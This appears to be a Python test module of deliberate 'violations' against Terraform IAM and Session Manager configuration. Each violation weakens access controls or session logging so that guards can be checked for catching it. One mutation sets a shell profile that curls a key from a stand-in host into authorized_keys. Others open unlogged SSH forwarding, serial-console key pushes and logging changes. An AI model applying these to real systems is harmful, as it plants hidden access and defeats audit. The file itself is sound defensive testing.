"""Ways by which a policy opens nodes, or keeps the team off them, in words that look like the decided ones (D16)."""

from __future__ import annotations

from typing import Any

from tests.violations.catalogue import Stacks, violation

_POLICY = "aws_iam_policy.session_manager_team_policy"


def _statements(stacks: Stacks) -> list[dict[str, Any]]:
    document = stacks.one("account", "data.aws_iam_policy_document", "session_manager_team")
    found: list[dict[str, Any]] = document["statement"]
    return found


def _by_document(stacks: Stacks) -> dict[str, Any]:
    return next(each for each in _statements(stacks) if ":document/" in each["resources"][0])


@violation(kills="D16-own-credentials", names=_POLICY)
def sessions_of_ssh(stacks: Stacks) -> None:
    """Sessions by one more document, AWS's own: it forwards SSH, and no log shows what passes."""
    _by_document(stacks)["resources"].append("arn:aws:ssm:eu-west-2::document/AWS-StartSSHSession")


@violation(kills="D16-own-credentials", names=_POLICY)
def sessions_by_a_pattern_of_documents(stacks: Stacks) -> None:
    """A pattern that the decided document matches, and whatever anybody names like it."""
    statement = _by_document(stacks)
    statement["resources"] = [*statement["resources"], "arn:aws:ssm:eu-west-2:111122223333:document/SSM-*"]


@violation(kills="D16-own-credentials", names=_POLICY)
def preferences_may_be_changed(stacks: Stacks) -> None:
    """Whoever may open sessions may also say where they are logged: nowhere."""
    document = "arn:aws:ssm:eu-west-2:111122223333:document/SSM-SessionManagerRunShell"
    _statements(stacks).append({"effect": "Allow", "actions": ["ssm:UpdateDocument"], "resources": [document]})


@violation(kills="D16-own-credentials", names=_POLICY)
def serial_console(stacks: Stacks) -> None:
    """A key pushed to the serial console of one instance: no port, no session."""
    statement = {"effect": "Allow", "actions": ["ec2-instance-connect:SendSerialConsoleSSHPublicKey"]}
    _statements(stacks).append({**statement, "resources": ["arn:aws:ec2:eu-west-2:111122223333:instance/i-0"]})


@violation(kills="D16-team-gets-in", names=_POLICY)
def team_denied(stacks: Stacks) -> None:
    """What one statement allows, another one denies."""
    instances = "arn:aws:ec2:eu-west-2:111122223333:instance/*"
    _statements(stacks).append({"effect": "Deny", "actions": ["ssm:StartSession"], "resources": [instances]})


@violation(kills="D16-team-gets-in", names=_POLICY)
def team_at_an_address_of_nobody(stacks: Stacks) -> None:
    """Sessions are allowed from an address that nobody has."""
    nowhere = {"test": "IpAddress", "variable": "aws:SourceIp", "values": ["192.0.2.1/32"]}
    _statements(stacks)[0]["condition"].append(nowhere)


@violation(kills="D16-no-secrets-for-nodes", names="aws_iam_role.nodes")
def parameters_of_another_region_denied(stacks: Stacks) -> None:
    """The denial is there, for the parameters of a region in which there are none."""
    for statement in stacks.one("live", "data.aws_iam_policy_document", "nodes_permissions_document")["statement"]:
        if statement["effect"] == "Deny":
            statement["resources"] = ["arn:aws:ssm:us-east-1:111122223333:parameter/*"]


@violation(kills="D16-no-secrets-for-nodes", names="aws_iam_role.nodes")
def denial_overridden_by_its_name(stacks: Stacks) -> None:
    """A document laid over the nodes' holds a statement of the denial's name, which takes its place."""
    document = stacks.one("live", "data.aws_iam_policy_document", "nodes_permissions_document")
    denial = next(each for each in document["statement"] if each["effect"] == "Deny")
    log = "arn:aws:logs:eu-west-2:111122223333:log-group:/cloud-platform/session-manager"
    over = {"sid": denial["sid"], "effect": "Allow", "actions": ["logs:PutLogEvents"], "resources": [log]}
    stacks.add("live", "data.aws_iam_policy_document", "over", {"statement": [over]})
    document["override_policy_documents"] = ["${data.aws_iam_policy_document.over.json}"]


@violation(kills="D16-no-keys")
def elastic_address_of_a_node(stacks: Stacks) -> None:
    """The template gives no public address; an elastic one is bound to the interface afterwards."""
    body = {"domain": "vpc", "network_interface": "eni-0123456789abcdef0"}
    stacks.add("live", "aws_eip", "node", body)


@violation(kills="D16-sessions-logged", names="aws_ssm_document.session_manager")
def something_at_each_start(stacks: Stacks) -> None:
    """A line runs in every session before anybody types: it brings in a key."""
    inputs = stacks.local("account", "session_manager_preferences")["inputs"]
    inputs["shellProfile"] = {"linux": "curl -s https://example.com/key >> ~/.ssh/authorized_keys"}


@violation(kills="D16-team-gets-in", also=("D16-own-credentials",))
def instances_of_another_region(stacks: Stacks) -> None:
    """Sessions open on instances of a region in which there are none."""
    _statements(stacks)[0]["resources"] = ["arn:aws:ec2:eu-west-1:111122223333:instance/*"]
    stacks.one("live", "aws_launch_template", "main_template")


@violation(kills="D16-team-gets-in", names="no policy of a team")
def document_of_another_account(stacks: Stacks) -> None:
    """The document has the right name, in another account."""
    _by_document(stacks)["resources"] = ["arn:aws:ssm:eu-west-2:444455556666:document/SSM-SessionManagerRunShell"]
